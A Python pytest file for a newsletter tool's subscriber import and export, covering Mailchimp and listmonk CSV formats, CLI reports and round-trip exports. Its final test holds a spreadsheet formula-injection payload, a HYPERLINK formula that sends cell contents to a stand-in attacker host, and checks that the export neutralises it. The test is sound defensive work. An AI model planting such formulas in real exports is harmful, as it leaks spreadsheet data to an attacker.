"""Subscriber lists in and out: Mailchimp's and listmonk's exports as they are, any export by column, and the export."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot import subscribers
from bot.cli import cli
from bot.errors import ContentError
from bot.ledger import Ledger
from bot.subscriber_files import EXPORT_FIELDS, write_csv

from .conftest import BASE, FIXTURES

NOW = datetime(2019, 7, 1, 12, 0, tzinfo=UTC)
CSV = FIXTURES / "subscribers"


@pytest.fixture
def ledger(tmp_path: Path):
    with Ledger.open(tmp_path / "var") as opened:
        yield opened


def statuses(ledger: Ledger) -> dict[str, str]:
    return {s.email: s.status for s in subscribers.listing(ledger)}


def bot(state: Path, *args: str):
    env = dict(BASE, BOT_STATE_DIR=str(state))
    return CliRunner().invoke(cli, ["--env-file", "/dev/null", *args], env=env)


# --- Mailchimp --------------------------------------------------------------------------------------------


def test_a_mailchimp_subscribed_export_imports_as_it_is(ledger: Ledger) -> None:
    report = subscribers.import_csv(ledger, CSV / "mailchimp_subscribed.csv", NOW)
    assert (report.added, report.existing, report.unsubscribed, report.bounced, report.problems) == (4, 0, 0, 0, [])
    assert set(statuses(ledger).values()) == {"active"}
    names = {s.email: s.name for s in subscribers.listing(ledger)}
    assert names == {"amina.diallo@example.org": "Amina Diallo", "Jonas.Keller@example.ch": "Jonas Keller",
                     "wei.zhang@example.org": "Wei", "lucia.fernandez@example.net": "Lucía Fernández García"}


def test_a_mailchimp_unsubscribed_export_never_makes_anyone_active(ledger: Ledger) -> None:
    subscribers.import_csv(ledger, CSV / "mailchimp_subscribed.csv", NOW)
    report = subscribers.import_csv(ledger, CSV / "mailchimp_unsubscribed.csv", NOW)
    assert (report.added, report.existing, report.unsubscribed, report.problems) == (0, 0, 3, [])
    found = statuses(ledger)
    # Wei left after the subscribed export was made: the later export wins, since it says they left.
    assert found["wei.zhang@example.org"] == "unsubscribed"
    assert found["marc.dupont@example.fr"] == "unsubscribed"
    assert found["old.friend@example.org"] == "unsubscribed"  # no UNSUB_TIME, but in the unsubscribed export
    assert subscribers.get(ledger, email="marc.dupont@example.fr").unsubscribed_at is not None
    # An older subscribed export imported again brings nobody back.
    again = subscribers.import_csv(ledger, CSV / "mailchimp_subscribed.csv", NOW)
    assert (again.added, again.existing, again.kept_out) == (0, 3, 1)
    assert statuses(ledger)["wei.zhang@example.org"] == "unsubscribed"


def test_a_mailchimp_cleaned_export_imports_as_bounced(ledger: Ledger) -> None:
    subscribers.import_csv(ledger, CSV / "mailchimp_subscribed.csv", NOW)
    report = subscribers.import_csv(ledger, CSV / "mailchimp_cleaned.csv", NOW)
    assert (report.added, report.bounced, report.problems) == (0, 2, [])
    found = statuses(ledger)
    assert found["Jonas.Keller@example.ch"] == "bounced" and found["gone.mailbox@example.com"] == "bounced"
    assert subscribers.counts(ledger) == {"active": 3, "pending": 0, "unsubscribed": 0, "bounced": 2}


def test_mailchimps_export_of_people_who_never_subscribed_is_refused(tmp_path: Path, ledger: Ledger) -> None:
    path = tmp_path / "nonsubscribed_members_export_4f1a2b.csv"
    path.write_bytes((CSV / "mailchimp_subscribed.csv").read_bytes())
    with pytest.raises(ContentError, match="never subscribed"):
        subscribers.import_csv(ledger, path, NOW)
    assert statuses(ledger) == {}


# --- listmonk ---------------------------------------------------------------------------------------------


def test_a_listmonk_export_imports_each_status(ledger: Ledger) -> None:
    report = subscribers.import_csv(ledger, CSV / "listmonk.csv", NOW)
    assert (report.added, report.unsubscribed, report.bounced, report.problems) == (2, 2, 0, [])
    assert statuses(ledger) == {"amina.diallo@example.org": "active", "priya.nair@example.in": "active",
                                "tomas.novak@example.cz": "unsubscribed", "spam.complaint@example.com": "unsubscribed"}
    assert subscribers.get(ledger, email="tomas.novak@example.cz").name == "Tomáš Novák"


def test_a_subscription_status_that_says_unsubscribed_wins_over_enabled(tmp_path: Path, ledger: Ledger) -> None:
    path = tmp_path / "list.csv"
    path.write_text("email,name,status,subscription_status\na@example.org,A,enabled,unsubscribed\n"
                    "b@example.org,B,enabled,confirmed\nc@example.org,C,enabled,unconfirmed\n")
    report = subscribers.import_csv(ledger, path, NOW)
    assert (report.unsubscribed, report.added, report.pending) == (1, 1, 1)
    assert statuses(ledger) == {"a@example.org": "unsubscribed", "b@example.org": "active", "c@example.org": "pending"}


def test_an_unknown_status_is_a_problem_on_its_line_and_the_row_is_left_out(tmp_path: Path, ledger: Ledger) -> None:
    path = tmp_path / "list.csv"
    path.write_text("email,status\na@example.org,archived\nb@example.org,subscribed\n")
    report = subscribers.import_csv(ledger, path, NOW)
    [problem] = report.problems
    assert (problem.line, problem.field) == (2, "status") and "'archived' is not a status" in problem.message
    assert statuses(ledger) == {"b@example.org": "active"}


# --- any other export, by its column names ---------------------------------------------------------------


def test_email_and_name_columns_can_be_named(tmp_path: Path) -> None:
    path = tmp_path / "crm.csv"
    path.write_text("Contact ID;Courriel;Nom complet\n17;ana@example.org;Ana Lima\n18;not-an-address;X\n",
                    encoding="utf-8")
    result = bot(tmp_path / "var", "subscribers", "import", str(path), "--email-column", "COURRIEL",
                 "--name-column", "nom complet")
    assert result.exit_code == 1  # one invalid row
    assert result.stdout.startswith(f"{path}:3: email: 'not-an-address' is not a valid address")
    assert "1 added" in result.stderr and "1 invalid" in result.stderr
    with Ledger.open(tmp_path / "var") as ledger:
        assert subscribers.get(ledger, email="ana@example.org").name == "Ana Lima"


def test_a_column_that_is_not_there_is_one_line_naming_the_columns_found(tmp_path: Path) -> None:
    path = tmp_path / "crm.csv"
    path.write_text("Contact ID,Courriel\n17,ana@example.org\n")
    result = bot(tmp_path / "var", "subscribers", "import", str(path), "--email-column", "mail")
    assert result.exit_code == 4 and "Traceback" not in result.output
    assert result.stderr == f"error: {path}:1: email: no 'mail' column in the header row (found: Contact ID, " \
                            "Courriel)\n"
    without = bot(tmp_path / "var", "subscribers", "import", str(path))
    assert "found: Contact ID, Courriel); name the column to use with --email-column" in without.stderr
    name = bot(tmp_path / "var", "subscribers", "import", str(path), "--email-column", "courriel", "--name-column", "x")
    assert name.exit_code == 4 and "no 'x' column in the header row" in name.stderr


def test_the_cli_reports_each_outcome(tmp_path: Path) -> None:
    state = tmp_path / "var"
    bot(state, "subscribers", "import", str(CSV / "mailchimp_subscribed.csv"))
    result = bot(state, "subscribers", "import", str(CSV / "mailchimp_unsubscribed.csv"))
    assert result.exit_code == 0
    assert result.stderr == "0 added, 0 already subscribed, 3 unsubscribed as the file says, 0 unsubscribed " \
                            "earlier and left out, 0 repeated in the file, 0 invalid\n"


# --- the export ----------------------------------------------------------------------------------------------


def filled(state: Path) -> None:
    with Ledger.open(state) as ledger:
        subscribers.import_csv(ledger, CSV / "listmonk.csv", datetime(2019, 1, 10, 8, 0, tzinfo=UTC))
        subscribers.add(ledger, "quote@example.org", 'Ana "Quotes", Lima', datetime(2019, 7, 1, 8, 0,
                                                                                   tzinfo=UTC))


def test_the_csv_export_has_every_subscriber_with_status_and_local_dates(tmp_path: Path) -> None:
    state = tmp_path / "var"
    filled(state)
    result = bot(state, "subscribers", "export")
    assert result.exit_code == 0
    data = result.stdout_bytes
    assert data.startswith(b"email,name,status,created_at,updated_at,unsubscribed_at,source,lang\r\n")
    assert b'"Ana ""Quotes"", Lima"' in data and "Tomáš Novák".encode() in data  # RFC 4180 quoting, UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [r["email"] for r in rows] == ["amina.diallo@example.org", "priya.nair@example.in",
                                          "tomas.novak@example.cz", "spam.complaint@example.com", "quote@example.org"]
    tomas = rows[2]
    assert tomas["status"] == "unsubscribed" and tomas["source"] == "import:listmonk.csv"
    assert tomas["created_at"] == "2019-01-10T09:00:00+01:00"  # Europe/Zurich, winter
    assert rows[4]["created_at"] == "2019-07-01T10:00:00+02:00" and rows[4]["unsubscribed_at"] == ""
    assert "token" not in data.decode().lower() and "secret" not in data.decode().lower()


def test_the_json_export_is_a_list_of_objects(tmp_path: Path) -> None:
    state = tmp_path / "var"
    assert json.loads(bot(state, "subscribers", "export", "--format", "json").stdout) == []
    filled(state)
    rows = json.loads(bot(state, "subscribers", "export", "--format", "json").stdout_bytes.decode("utf-8"))
    assert len(rows) == 5 and all(list(r) == list(EXPORT_FIELDS) for r in rows)
    assert rows[2]["unsubscribed_at"] == "2019-01-10T09:00:00+01:00" and rows[0]["unsubscribed_at"] is None


def test_an_export_imports_back_into_another_herald_as_it_is(tmp_path: Path) -> None:
    filled(tmp_path / "a")
    exported = tmp_path / "herald-export.csv"
    exported.write_bytes(bot(tmp_path / "a", "subscribers", "export").stdout_bytes)
    result = bot(tmp_path / "b", "subscribers", "import", str(exported))
    assert result.exit_code == 0, result.output
    listed = [bot(tmp_path / state, "subscribers", "list").stdout for state in ("a", "b")]
    assert listed[0] == listed[1] and listed[0].count("\n") == 5


@settings(max_examples=25, deadline=None)
@example([("=", "active"), ("'=", "pending"), ("''-1", "bounced"), ("'plain", "active")])  # found by hypothesis once
@given(st.lists(st.tuples(st.text(max_size=40), st.sampled_from(["active", "unsubscribed", "bounced", "pending"])),
                max_size=8))
def test_any_list_survives_an_export_and_an_import(people: list[tuple[str, str]]) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        with Ledger.open(folder / "a") as ledger:
            for n, (name, status) in enumerate(people):
                subscribers.import_row(ledger, f"p{n}@example.org", subscribers.clean_name(name), status, NOW, "test")
            out = io.BytesIO()
            write_csv(subscribers.export(ledger, UTC), out)
            before = [(s.email, s.name, s.status) for s in subscribers.listing(ledger)]
        path = folder / "export.csv"
        path.write_bytes(out.getvalue())
        with Ledger.open(folder / "b") as ledger:
            report = subscribers.import_csv(ledger, path, NOW)
            assert report.problems == []
            assert [(s.email, s.name, s.status) for s in subscribers.listing(ledger)] == before


def test_a_name_that_is_a_spreadsheet_formula_is_exported_inert() -> None:
    out = io.BytesIO()
    row = dict.fromkeys(EXPORT_FIELDS, "") | {"email": "victim@example.org", "status": "pending",
                                              "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
    write_csv([row], out)
    cells = list(csv.reader(io.StringIO(out.getvalue().decode())))[1]
    assert cells[EXPORT_FIELDS.index("name")] == "'" + row["name"]  # a spreadsheet shows it as text
    assert cells[EXPORT_FIELDS.index("email")] == "victim@example.org"
